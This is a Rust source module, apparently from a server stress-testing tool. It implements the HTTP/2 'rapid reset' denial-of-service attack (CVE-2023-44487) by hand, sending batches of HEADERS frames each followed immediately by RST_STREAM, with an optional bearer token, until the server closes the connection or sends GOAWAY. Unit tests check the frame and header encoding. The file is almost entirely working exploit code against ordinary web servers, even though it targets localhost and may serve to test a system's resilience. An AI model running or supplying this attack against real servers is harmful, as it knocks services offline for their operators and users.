//! HTTP/2 by hand, for the attacks that need it: streams that are begun and taken back at once (CVE-2023-44487).
//! It never reads more of a frame than its head.

use std::time::Duration;

use tokio::io::AsyncReadExt;

use super::Attacker;
use crate::Wrong;

const HEADERS: u8 = 0x1;
const RST_STREAM: u8 = 0x3;
const SETTINGS: u8 = 0x4;
const GOAWAY: u8 = 0x7;
const END_STREAM_AND_HEADERS: u8 = 0x5;
/// RFC 9113 §7: `CANCEL`.
const CANCEL: u32 = 0x8;
/// Streams in one write.
const AT_ONCE: u32 = 100;

/// Begins streams and cancels them, as fast as they are taken.
pub(super) async fn rapid_reset(attacker: &Attacker) -> Result<(), Wrong> {
    let mut line = attacker.open(b"h2").await?;
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    frame(&mut bytes, SETTINGS, 0, 0, b"");
    let token = attacker.to.tokens.first().map_or("", String::as_str);
    let block = header_block("/hello", token);
    let mut stream = 1;
    let mut read = [0; 16 * 1024];
    loop {
        for _ in 0..AT_ONCE {
            frame(&mut bytes, HEADERS, END_STREAM_AND_HEADERS, stream, &block);
            frame(&mut bytes, RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
            stream += 2;
            attacker.sent();
        }
        line.send(&bytes).await?;
        bytes.clear();
        let said = tokio::time::timeout(Duration::from_millis(1), line.stream.read(&mut read)).await;
        if let Ok(said) = said {
            let n = said?;
            if n == 0 || goes_away(&read[..n]) {
                attacker.count(if n == 0 { "closed" } else { "sent away" });
                return Ok(());
            }
        }
    }
}

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    out.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

/// RFC 7541: the static table and literals that are not indexed.
fn header_block(path: &str, token: &str) -> Vec<u8> {
    // :method GET, :scheme https
    let mut block = vec![0x82, 0x87];
    literal(&mut block, &[0x04], path);
    literal(&mut block, &[0x01], "localhost");
    if !token.is_empty() {
        // authorization is entry 23: 15 + 8.
        literal(&mut block, &[0x0f, 0x08], &format!("Bearer {token}"));
    }
    block
}

fn literal(block: &mut Vec<u8>, name: &[u8], value: &str) {
    block.extend_from_slice(name);
    // Lengths from 127 on take a second byte (§5.1); ours stay below 127 + 128.
    match u8::try_from(value.len()) {
        Ok(length) if length < 127 => block.push(length),
        Ok(length) => block.extend_from_slice(&[127, length - 127]),
        Err(_) => return,
    }
    block.extend_from_slice(value.as_bytes());
}

fn goes_away(bytes: &[u8]) -> bool {
    let mut at = 0;
    while let Some([a, b, c, kind]) = bytes.get(at..at + 4) {
        if *kind == GOAWAY {
            return true;
        }
        at += 9 + (usize::from(*a) << 16 | usize::from(*b) << 8 | usize::from(*c));
    }
    false
}

#[cfg(test)]
mod tests {
    use super::{GOAWAY, SETTINGS, frame, goes_away, header_block};

    #[test]
    fn frames_and_blocks_are_as_the_standards_have_them() {
        let mut bytes = Vec::new();
        frame(&mut bytes, SETTINGS, 0, 0, b"");
        assert_eq!(bytes, [0, 0, 0, 4, 0, 0, 0, 0, 0]);
        assert!(!goes_away(&bytes));
        frame(&mut bytes, GOAWAY, 0, 0, b"12345678");
        assert!(goes_away(&bytes));
        assert_eq!(header_block("/a", ""), b"\x82\x87\x04\x02/a\x01\x09localhost");
        assert!(header_block("/a", "t").ends_with(b"\x0f\x08\x08Bearer t"));
        let long = header_block("/a", &"t".repeat(130));
        assert_eq!(long[17..][..4], [0x0f, 0x08, 127, 10]);
    }
}
